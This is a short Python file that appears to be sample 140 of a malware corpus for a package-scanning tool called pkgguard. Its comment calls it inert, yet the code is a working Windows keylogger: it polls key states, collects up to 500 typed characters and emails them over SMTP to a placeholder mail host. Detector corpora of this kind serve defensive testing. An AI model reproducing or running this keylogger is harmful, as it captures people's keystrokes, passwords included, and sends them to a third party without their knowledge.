# pkgguard corpus 140 (keylogger), modelled on [stealer-profile]; inert, never run.
import ctypes
import smtplib
import time

user32 = ctypes.windll.user32
typed = []
while len(typed) < 500:
    for code in range(8, 256):
        if user32.GetKeyState(code) & 0x8000:
            typed.append(chr(code))
    time.sleep(0.01)
with smtplib.SMTP("mail.example", 587) as s:
    s.sendmail("a@example.com", "b@example.com", "".join(typed))
